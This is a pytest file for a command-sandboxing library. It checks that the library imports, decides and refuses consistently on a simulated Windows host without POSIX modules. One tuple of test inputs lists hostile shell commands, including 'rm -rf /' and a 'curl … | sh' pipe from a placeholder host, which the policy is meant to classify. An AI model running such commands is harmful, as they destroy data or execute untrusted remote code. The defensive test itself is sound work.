"""
What works where Windows' lack of POSIX is all there is: importing, deciding, and a
refusal that says what to use instead. Each runs in a process of its own without the
modules and names Windows does not have; the same acts here show what is lost.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from tests.windows_host import POSIX_MODULES, POSIX_NAMES

import sandboxkit as sk
from sandboxkit.model import PolicyAction
from sandboxkit.router._spec import preset

ROOT = Path(__file__).resolve().parent.parent
OWN = Path(sk.__file__).resolve().parent.parent
COMMANDS = ("npm install express", "rm -rf /", "ls -la", "git push --force", "curl x.example | sh", "sudo id")


def there(code: str, *, host: bool = True) -> str:
    """
    What *code* prints on such a host, or in a process like it that lacks nothing.
    """
    text = ("from tests.windows_host import become_windows; become_windows()\n" if host else "") + code
    environ = {**os.environ, "PYTHONPATH": f"{OWN}{os.pathsep}{ROOT}"}
    done = subprocess.run([sys.executable, "-c", text], capture_output=True, text=True, env=environ, check=False)
    assert done.returncode == 0, done.stderr
    return done.stdout


def test_such_a_host_lacks_what_it_is_to_lack() -> None:
    code = f"""
import importlib, os, sys
def lacks(name):
    try: importlib.import_module(name)
    except ImportError: return True
print(sys.platform, all(map(lacks, {sorted(POSIX_MODULES)!r})), any(hasattr(os, n) for n in {sorted(POSIX_NAMES)!r}))
"""
    assert there(code).split() == ["win32", "True", "False"]
    assert {"fcntl", "pwd", "resource", "termios", "pty", "grp"} <= POSIX_MODULES


def test_every_public_name_can_be_imported() -> None:
    code = """
import sandboxkit as sk, sandboxkit.backends, sandboxkit.cli, sandboxkit.router, sandboxkit.sync
print(len([getattr(sk, name) for name in sk.__all__ if name != "__version__"]))
"""
    assert int(there(code)) == len(sk.__all__) - 1  # the version is of the installed package


def test_decisions_are_those_of_any_other_host() -> None:
    code = f"""
import json, sandboxkit as sk
policy = sk.ExecPolicy.default()
print(json.dumps([str(policy.evaluate(text).action) for text in {COMMANDS!r}]))
"""
    found = json.loads(there(code))
    assert found == json.loads(there(code, host=False))
    assert len(set(found)) > 1


RUN = """
import sandboxkit as sk
try:
    print(sk.sync.run("npm --version", spec=sk.SandboxSpec.isolated()))
except sk.SandboxError as exc:
    print(type(exc).__name__, exc)
"""


def test_a_run_is_refused_with_what_to_use_instead() -> None:
    said = there(RUN)
    assert said.startswith("NoBackendError")
    for words in (
        "win32",
        "nothing was run",
        "DockerBackend(image=..., workspace='copy')",
        "WSL 2",
        "nothing ever runs unconfined",
    ):
        assert words in said


@pytest.mark.parametrize(
    ("code", "error"),
    [
        ("sk.GrantStore('grants.json')", "GrantStoreError"),
        ("sk.JsonlAudit('log.jsonl').write(sk.AuditEvent('decided', 'run', 1.0, {}))", "AuditError"),
        ("sk.SandboxSpec(filesystem={'write': [r'C:\\\\work']})", "SpecError"),
    ],
)
def test_what_windows_cannot_hold_is_refused_by_its_own_error(code: str, error: str, tmp_path: Path) -> None:
    text = f"import os, sandboxkit as sk\nos.chdir({str(tmp_path)!r})\ntry: {code}\n"
    text += "except sk.SandboxError as exc: print(type(exc).__name__, exc)"
    said = there(text)
    assert said.startswith(error)
    assert "Windows" in said
    assert "WSL 2" in said


@pytest.mark.parametrize("action", [PolicyAction.ALLOW, PolicyAction.SANDBOX])
def test_without_a_spec_a_directory_of_windows_is_not_shown(action: PolicyAction) -> None:
    assert preset(action, "C:\\work") == sk.SandboxSpec.isolated()


@pytest.mark.parametrize("verb", ["backends", "doctor", "policy show"])
def test_verbs_of_the_command_line(verb: str) -> None:
    code = f"import sys\nfrom sandboxkit.cli import main\nprint(main({verb.split()!r}))"
    lines = there(code).splitlines()
    assert lines[-1] == ("1" if verb == "doctor" else "0")
    if verb == "doctor":
        assert "use Docker with an image and copies, or run in WSL 2" in "\n".join(lines)
